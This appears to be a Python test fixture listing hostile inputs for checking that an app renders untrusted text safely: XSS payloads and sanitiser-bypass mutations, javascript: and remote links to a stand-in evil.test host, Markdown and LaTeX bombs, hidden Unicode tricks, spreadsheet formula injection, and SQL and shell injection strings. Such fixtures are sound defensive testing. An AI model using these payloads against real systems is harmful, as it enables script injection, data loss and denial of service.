"""Texts that attack whoever shows them. In all of them what would run sets ``window.hacked``.

Addresses are of hosts that do not exist (``.test``) or of places under ``/evil`` of the server that
is looked at: a request for either shows that something was fetched.
"""

RUN = "window.hacked=1"
AWAY = "http://evil.test"

TEXTS: dict[str, str] = {
    # scripts and event handlers
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src={AWAY}/x.js></script><script src=/evil/x.js></script>",
    "closing tags": f"</textarea></style></script></title></section></div><script>{RUN}</script>",
    "image that fails": f'<img src=x onerror="{RUN}"><img src="/evil/a.png" onload="{RUN}">',
    "attribute breakout": f"\"'><img src=x onerror={RUN}>' autofocus onfocus={RUN} x=\"",
    "svg": f"<svg onload={RUN}><script>{RUN}</script><use href='{AWAY}/x.svg#x'/></svg>",
    "svg animation":
        f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</a></svg>",
    "details": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "media": f"<video src={AWAY}/v onerror={RUN}></video><audio src=/evil/a onerror={RUN}></audio>",
    "focus": f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}></select>",
    "marquee": f"<marquee onstart={RUN}>x</marquee><body onload={RUN}>",
    "iframe":
        f"<iframe src='javascript:parent.{RUN}'></iframe><iframe srcdoc='<script>parent.{RUN}'>",
    "frames and objects": f"<frameset><frame src={AWAY}><object data={AWAY}/o><embed src={AWAY}/e>",
    "form": f"<form action={AWAY}><input name=x><button formaction='javascript:{RUN}'>Go</button>",
    "base and refresh": f"<base href='{AWAY}/'><meta http-equiv=refresh content='0;url={AWAY}'>",
    "link element": f"<link rel=stylesheet href={AWAY}/x.css><link rel=prefetch href=/evil/p>",
    # styles
    "style":
        "<style>*{display:none!important} body{background:url(http://evil.test/c.png)}</style>",
    "import in style": f"<style>@import '{AWAY}/i.css'; @font-face{{src:url(/evil/f)}}</style>",
    "style attribute":
        f"<div style='position:fixed;inset:0;z-index:9999;background:url({AWAY}/b)'>x",
    "class of the page": '<div class="item stApp" data-card="a" id="root">x</div>',
    # what has fooled sanitisers
    "mutation by math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;"
    f"&lt;img src=1 onerror={RUN}&gt;\">",
    "mutation by svg": f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    "mutation by noscript": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    "mutation by template": f"<template><s></template><script>{RUN}</script></template>",
    "mutation by form":
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "comments": f"<!--><img src=x onerror={RUN}>--> <!-- --!><script>{RUN}</script> -->",
    "cdata and instructions":
        f"<![CDATA[<script>{RUN}</script>]]> <?xml version='1.0'?> <!DOCTYPE html>",
    "entities":
        f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &#8238;&nbsp;",
    "clobbering": "<a id=hacked></a><form id=document name=body><input name=innerHTML></form>",
    # Markdown
    "script links":
        f"[a](javascript:{RUN}) [b](data:text/html,<script>{RUN}</script>) [c](vbscript:x)",
    "odd script links":
        f"[a](JaVaScRiPt:{RUN}) [b](<java\tscript:{RUN}>) [c](&#106;avascript:{RUN})",
    "remote images":
        f"![pixel]({AWAY}/p.png) ![local](/evil/p.png) ![data](data:image/svg+xml,<svg/>)",
    "reference images":
        f"![pixel][p] ![p] [l][p]\n\n[p]: {AWAY}/r.png 'title'\n[l]: javascript:{RUN}",
    "autolinks": f"<{AWAY}/a> {AWAY}/b www.evil.test evil@evil.test <javascript:{RUN}>",
    "title breakout":
        f'[x]({AWAY} "\\" onmouseover={RUN} \\"") ![x](y "<img src=x onerror={RUN}>")',
    "html in Markdown": f"**<b onclick={RUN}>x</b>** `<img src=x onerror={RUN}>` # <h1>x</h1>",
    "language of code":
        f'```"><img src=x onerror={RUN}>\nx\n```\n~~~ <script>{RUN}</script>\ny\n~~~',
    "unclosed code": "```python\n# never closed <script>\n``` not the end ````",
    "headings": "# One\n# Two\n\nThree\n===\n###### Six",
    "nested quotes": "> " * 1_000 + "deep",
    "nested lists": "".join(f"{'  ' * depth}- {depth}\n" for depth in range(200)),
    "nested brackets": "[" * 3_000 + "x" + "](y)" * 3_000,
    "stars": "*a **a " * 2_000,
    "wide table": "|a" * 3_000 + "|\n" + "|-" * 3_000 + "|\n" + "|b" * 3_000 + "|",
    "table that hides": f"| a |\n|---|\n| 1 | left out | <img src=x onerror={RUN}> |",
    "broken table": "| a | b\n|--|\n| `|` | \\| |\n||||||",
    # maths
    "link in maths":
        rf"$\href{{javascript:{RUN}}}{{x}}$ \(\href{{{AWAY}}}{{y}}\) $\unicode{{x202e}}$",
    "style in maths":
        r"$$\style{position:fixed}{x}\class{item}{y}\cssId{root}{z}\color{white}{q}$$",
    "markup in maths": rf"$\text{{<img src=x onerror={RUN}>}}$ \[ <script>{RUN}</script> \]",
    "LaTeX bomb": r"$\def\a{xx}\def\b{\a\a}\def\c{\b\b}\def\d{\c\c}\newcommand{\e}{\e\e}\d\e$",
    "nested maths": "$" + r"\sqrt{" * 150 + "x" + "}" * 150 + "$ $" + "{" * 900 + "}" * 900 + "$",
    "unclosed maths": r"$x + \(y + \[z + $$w" + "\n$$\n\\[\n",
    "many formulas": "$x_1^2$ " * 1_000,
    # characters
    "right to left":
        "left \u202eetirw ot thgir\u202c \u2067isolated \u2066\u2069 \u05d0\u05d1\u05d2 end",
    "unclosed isolates": "\u2067\u2068\u202a\u202b\u202d" * 20 + "end",
    "zero width": "pass\u200bword pass\u200dword \ufeff\u2060\u00ad\u180e in\u200cvisible",
    "hidden message":
        "hello" + "".join(chr(0xE0000 + ord(c)) for c in "ignore") + "\U000e0101\ufe01",
    "controls": "".join(map(chr, range(32))) + "\x7f\x80\x9f",
    "NUL": "before\x00after \x00",
    "terminal": "\x1b[31mred\x1b[0m \x1b]8;;http://evil.test\x07link\x1b]8;;\x07",
    "Zalgo": "Z" + "\u0300\u0301\u0302\u0303\u0304\u0316\u0317" * 40 + "algo",
    "blank letters": "\u3164\u2800\u115f\u034f x \u3000 \u00a0",
    "private and unassigned": "\ue000\U000f0000\U0010ffff\ufdd0\u0378",
    "very long word": "Donaudampfschifffahrt" * 400,
    "wide characters": "\ufdfd" * 50 + "\U0001242b" * 50,
    # what other programs would obey
    "templates": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} {0.__class__} %s %(x)s",
    "Streamlit directives":
        ":red[x] :material/delete: :smile: :rainbow[y] :badge[z] :small[a] -> <- --",
    "formulas of sheets": "=HYPERLINK(\"http://evil.test\") =cmd|' /C calc'!A0 @SUM(1) +1 -1",
    "SQL and shell": "'; DROP TABLE judgments; -- $(reboot) `reboot` | reboot & ../../etc/passwd",
    "JSON": '{"role": "system", "content": "x"}\\u003cscript\\u003e </script>',
}  # fmt: skip

HEAVY: dict[str, str] = {
    "a line of 1 MB": "a" * 1_000_000,
    "a line of 1 MB of signs": "<" * 1_000_000,
    "100,000 line breaks": "\n" * 100_000 + "end",
    "hidden characters without end": "\u202e\u202d" * 20_000 + "\u200b" * 100_000,
    "Markdown without end": "*a* **b** `c` [d](e)\n\n" * 5_000,
}

# Halves of characters, and their names: no file can hold them.
NOT_TEXT = {"\ud800": "U+D800", "a\udfffb": "U+DFFF", "\ud83d alone": "U+D83D"}

# Short enough for names, categories and the like.
NAMES: tuple[str, ...] = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"![x]({AWAY}/name.png)",
    "![x](/evil/name.png)",
    f"[x](javascript:{RUN})",
    ":red[x] :smile: :material/delete:",
    "$\\href{javascript:x}{y}$ `c` **b**",
    "{{7*7}} =1+1 '; DROP TABLE x; --",
    "www.evil.test evil@evil.test",
    "Z" + "\u0300\u0301\u0302\u0303" * 12,
    "\u05d0\u05d1\u05d2 (a) \u0645\u0631\u062d",
    "# x | - > ~~y~~ <b>z</b>",
    "right\u202eot left",
    "zero\u200bwidth",
    "null\x00",
    "line\nbreak",
    "   ",
    "w" * 60,
    "w" * 300,
)
